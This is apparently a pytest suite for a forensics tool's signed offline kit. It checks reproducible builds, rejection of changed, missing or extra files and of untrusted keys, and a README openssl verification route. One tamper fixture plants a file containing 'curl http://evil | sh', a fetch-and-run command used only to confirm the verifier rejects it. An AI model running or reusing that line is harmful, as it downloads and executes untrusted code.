"""The offline kit (`kit build`, `kit verify`) with the real binary, and the README's check with
tar, sha256sum and openssl alone.

* Two builds from the same checkout and binary are byte-identical, and `kit verify` accepts them.
* A changed, a missing and an extra file, and an untrusted key, are each rejected with their code,
  by `kit verify` and by the README's openssl route.
* The kit unpacked into an empty directory runs: `--version`, and `verify` of the sample bundle.
"""

from __future__ import annotations

import re
import shutil
import subprocess
from pathlib import Path

import pytest

from capturelib import REPO, sfb

KIT_TIMEOUT = 300  # seconds: hashing and writing a debug binary of ~150 MB on a loaded machine


def run(bin_path, *args, check=True, cwd=None):
    result = subprocess.run(
        [str(bin_path), *map(str, args)], capture_output=True, text=True, timeout=KIT_TIMEOUT, cwd=cwd
    )
    if check and result.returncode != 0:
        raise AssertionError(f"{args} exited {result.returncode}: {result.stdout}{result.stderr}")
    return result


MAN_PAGE = REPO / "docs" / "man" / "stella-forensics.1"


@pytest.fixture(scope="module")
def kit_lab(stella_bin, tmp_path_factory):
    """Keys, and one kit built from this checkout with the binary under test (the man page a kit
    carries is generated first, as `make kit` does, when no earlier `make man` left it)."""
    if not MAN_PAGE.is_file():
        subprocess.run(["make", "-C", str(REPO), "man"], check=True, capture_output=True, timeout=KIT_TIMEOUT)
    root = tmp_path_factory.mktemp("kit")
    run(stella_bin, "keygen", "--out", root, "--name", "site-signer")
    run(stella_bin, "keygen", "--out", root, "--name", "stranger")
    kit = root / "stella-kit.tar"
    run(stella_bin, "kit", "build", "--out", kit, "--key", root / "site-signer.key", "--source", REPO)
    return root, kit


def verify(stella_bin, kit, key):
    return run(stella_bin, "kit", "verify", kit, "--trusted-key", key, check=False)


def rewritten(kit: Path, out: Path, change) -> Path:
    """A copy of `kit` with its members changed by `change(list of (name, data))`, written with
    canonical ustar headers (fixtures/sfb.py, the independent implementation of the tar rules)."""
    members = sfb.tar_members(kit.read_bytes())
    members = change(members)
    out.write_bytes(sfb.tar_bytes(sfb.Member(name, data) for name, data in members))
    return out


def flip_in(name):
    def change(members):
        return [(n, bytes([d[0] ^ 1]) + d[1:] if n == name else d) for n, d in members]

    return change


def test_two_builds_are_byte_identical_and_verify(stella_bin, kit_lab):
    root, kit = kit_lab
    again = root / "again.tar"
    run(stella_bin, "kit", "build", "--out", again, "--key", root / "site-signer.key", "--source", REPO)
    assert again.read_bytes() == kit.read_bytes()

    result = verify(stella_bin, kit, root / "site-signer.pub")
    assert result.returncode == 0, result.stdout + result.stderr
    assert result.stdout.startswith(f"OK: {kit} verified:")
    names = [name for name, _ in sfb.tar_members(kit.read_bytes())]
    assert names[:2] == ["kit.json", "kit.dsse.json"]
    for expected in (
        "bin/stella-forensics",
        "README.md",
        "config/capture.example.yaml",
        "config/profiles/forensic.yaml",
        "deploy/prometheus/stella-alerts.yaml",
        "deploy/grafana/stella-capture.json",
        "deploy/systemd/stella-capture.service",
        "docs/bundle-format.md",
        "docs/man/stella-forensics.1",
    ):
        assert expected in names
    members = dict(sfb.tar_members(kit.read_bytes()))
    assert members["bin/stella-forensics"] == Path(stella_bin).read_bytes()
    shown = run(stella_bin, "profile", "show", "forensic").stdout
    assert members["config/profiles/forensic.yaml"].decode() == shown


def test_an_existing_output_is_refused_without_force(stella_bin, kit_lab):
    root, kit = kit_lab
    result = run(
        stella_bin, "kit", "build", "--out", kit, "--key", root / "site-signer.key", "--source", REPO, check=False
    )
    assert result.returncode == 2
    assert "already exists" in result.stderr


@pytest.mark.parametrize(
    "case, change, code",
    [
        ("changed", flip_in("docs/bundle-format.md"), "KIT_FILE_CHANGED"),
        ("missing", lambda members: [m for m in members if m[0] != "config/capture.example.yaml"], "KIT_FILE_MISSING"),
        ("extra", lambda members: members + [("docs/zz-planted.sh", b"curl http://evil | sh\n")], "KIT_FILE_EXTRA"),
    ],
)
def test_tampered_kits_are_rejected_with_their_code(stella_bin, kit_lab, tmp_path, case, change, code):
    root, kit = kit_lab
    tampered = rewritten(kit, tmp_path / f"{case}.tar", change)
    result = verify(stella_bin, tampered, root / "site-signer.pub")
    assert result.returncode == 1, result.stdout + result.stderr
    assert result.stdout.startswith(f"REJECT {code}:"), result.stdout
    assert readme_check(tampered, root / "site-signer.pub", tmp_path / "readme").returncode != 0


def test_an_untrusted_key_is_rejected(stella_bin, kit_lab):
    root, kit = kit_lab
    result = verify(stella_bin, kit, root / "stranger.pub")
    assert result.returncode == 1
    assert result.stdout.startswith("REJECT SIG_UNTRUSTED_KEY:"), result.stdout


def readme_commands() -> str:
    readme = (REPO / "README.md").read_text()
    match = re.search(r"<!-- kit-openssl:begin -->\s*```sh\n(.*?)```\s*<!-- kit-openssl:end -->", readme, re.S)
    assert match, "README.md has no kit-openssl block"
    return match.group(1)


def readme_check(kit: Path, pub: Path, workdir: Path) -> subprocess.CompletedProcess:
    """Runs the README's tar/sha256sum/openssl check as written, in an empty directory."""
    workdir.mkdir()
    shutil.copy(kit, workdir / "kit.tar")
    shutil.copy(pub, workdir / "signer.pub")
    return subprocess.run(
        ["bash", "-c", readme_commands()],
        cwd=workdir,
        env={"PATH": "/usr/bin:/bin", "KIT": "kit.tar", "PUB": "signer.pub"},
        capture_output=True,
        text=True,
        timeout=KIT_TIMEOUT,
    )


def test_the_readme_openssl_route_verifies_the_kit(kit_lab, tmp_path):
    root, kit = kit_lab
    result = readme_check(kit, root / "site-signer.pub", tmp_path / "good")
    assert result.returncode == 0, result.stdout + result.stderr
    assert "Signature Verified Successfully" in result.stdout
    bad = readme_check(kit, root / "stranger.pub", tmp_path / "stranger")
    assert bad.returncode != 0


def test_the_unpacked_kit_runs(kit_lab, tmp_path):
    _, kit = kit_lab
    target = tmp_path / "site"
    target.mkdir()
    subprocess.run(["tar", "-xf", kit, "-C", target], check=True, timeout=KIT_TIMEOUT)
    binary = target / "bin" / "stella-forensics"
    subprocess.run(["install", "-m", "0755", binary, target / "stella-forensics"], check=True)
    version = run(target / "stella-forensics", "--version")
    assert version.stdout.strip() == "0.1.0"
    sample = REPO / "fixtures" / "bundle"
    result = run(
        target / "stella-forensics",
        "verify",
        sample / "sample.sfb.tar",
        "--trusted-key",
        sample / "sample-signer.pub",
        "--deep",
        cwd=target,
    )
    assert result.stdout.startswith("OK: "), result.stdout
    assert (target / "docs" / "bundle-format.md").is_file()
